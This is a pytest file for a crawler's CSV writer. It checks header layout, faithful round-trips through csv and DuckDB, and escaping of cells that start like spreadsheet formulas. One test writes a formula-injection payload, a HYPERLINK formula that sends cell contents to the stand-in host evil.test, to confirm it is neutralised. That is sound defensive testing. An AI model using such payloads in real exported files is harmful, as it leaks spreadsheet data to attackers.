"""CSV: a header that stays, cells that no spreadsheet computes, and what two other readers make of it."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import duckdb
import msgspec
import pytest

from skitter.model import Mark, Reason, Record, Row
from skitter.ports import Sink
from skitter.sinks import Form, sink_for
from skitter.sinks.csv import harmless, original

RECORD = Record(url="http://a.test/", reason=Reason.FETCHED, depth=0, fetched_at="2026-01-01T00:00:00.000Z")
BEGINNINGS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def write(path: Path, *rows: Row, form: Form | None = None, offset: int | None = None) -> Mark:
    """A commit a row."""
    sink: Sink = sink_for(str(path), form=form)
    sink.open(offset)
    marks = [sink.write([row]) for row in rows]
    sink.close()
    mark = marks[-1]
    assert mark is not None
    return mark


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def item(**fields: Any) -> Row:
    return Row(RECORD, None, (fields,))


ITEMS = Form(items=True)


def seen_by_duckdb(path: Path) -> tuple[list[str], list[tuple[str | None, ...]]]:
    found = duckdb.connect().execute(f"SELECT * FROM read_csv('{path}', all_varchar=true, header=true)")
    return [column[0] for column in found.description or ()], found.fetchall()


@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_F2_no_cell_begins_as_a_formula_does(tmp_path: Path, beginning: str) -> None:
    title = f'{beginning}HYPERLINK("http://evil.test/?"&A1,"x")'
    write(tmp_path / "a.csv", Row(msgspec.structs.replace(RECORD, title=title)))
    write(tmp_path / "b.csv", item(**{title: title, "list": [title]}), form=ITEMS)
    for name in ("a.csv", "b.csv"):
        found = [cell for row in cells(tmp_path / name) for cell in row]
        assert f"'{title}" in found
        assert not [cell for cell in found if cell.startswith(tuple(BEGINNINGS))]


@pytest.mark.parametrize("text", ["", "a", "'a", "'", "=1", "'=1", "''=1", "''", "-", "'-'", "\t'=", "a=1"])
def test_F2_what_was_done_to_a_cell_can_be_undone(text: str) -> None:
    assert original(harmless(text)) == text


def test_a_number_below_zero_is_no_formula(tmp_path: Path) -> None:
    write(tmp_path / "a.csv", item(n=-5, x=-1.5e-7, text="-5"), form=ITEMS)
    assert cells(tmp_path / "a.csv")[1][:3] == ["-5", "-1.5e-07", "'-5"]


def test_the_header_is_the_contracts_and_the_extra_fields(tmp_path: Path) -> None:
    form = Form(fields=("headers", "text"))
    write(tmp_path / "a.csv", Row(RECORD, {"text": "t", "headers": [["A", "b"]]}), Row(RECORD), form=form)
    header, full, bare = cells(tmp_path / "a.csv")
    assert header == [*Record.__struct_fields__, "headers", "text"]
    assert full[-2:] == ['[["A","b"]]', "t"]
    assert bare[-2:] == ["", ""]
    assert dict(zip(header, bare, strict=True)) | {"redirected_from": "[]", "truncated": "false"} == {
        **dict.fromkeys(header, ""),
        "url": "http://a.test/",
        "reason": "fetched",
        "depth": "0",
        "redirected_from": "[]",
        "size": "0",
        "truncated": "false",
        "links": "0",
        "noindex": "false",
        "nofollow": "false",
        "attempts": "0",
        "fetched_at": "2026-01-01T00:00:00.000Z",
        "ttfb": "0.0",
        "elapsed": "0.0",
    }


@pytest.mark.parametrize("title", ["a,b", 'say "x"', "two\nlines", "a\rb", "é\u2028\U0001f600", " blanks "])
def test_other_readers_find_the_same_text(tmp_path: Path, title: str) -> None:
    path = tmp_path / "a.csv"
    record = msgspec.structs.replace(RECORD, title=title)
    write(path, Row(record), Row(record))
    header, *rows = cells(path)
    assert [row[header.index("title")] for row in rows] == [title] * 2
    found = (
        duckdb.connect()
        .execute(f"SELECT title FROM read_csv('{path}', all_varchar=true, quote='\"')")
        .fetchall()
    )
    assert found == [(title,)] * 2


@pytest.mark.parametrize("ending", ["", ".gz", ".zst"])
def test_items_keep_the_header_of_the_first_one_also_in_later_runs(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"items.csv{ending}"
    mark = write(path, item(), item(a=1, b=None), form=ITEMS)
    write(path, item(b="x", c=[1, 2], a=None), form=ITEMS, offset=mark.length)
    names, rows = seen_by_duckdb(path)
    assert names == ["_more"], "the first item of all had no names"
    path.unlink()
    mark = write(path, item(a=1, b=None, **{"=c": True}), form=ITEMS)
    write(path, item(b="x", c=[1, 2], **{"=c": False}), form=ITEMS, offset=mark.length)
    names, rows = seen_by_duckdb(path)
    assert names == ["a", "b", "'=c", "_more"]
    first, second = rows
    assert first == ("1", None, "true", None)
    assert second[:3] == (None, "x", "false")
    assert json.loads(second[3] or "") == {"c": [1, 2]}


def test_a_field_of_an_item_may_have_the_last_columns_name(tmp_path: Path) -> None:
    write(tmp_path / "a.csv", item(_more=1), item(_more=2, x=3), form=ITEMS)
    assert cells(tmp_path / "a.csv") == [["_more", "__more"], ["1", ""], ["2", '{"x":3}']]
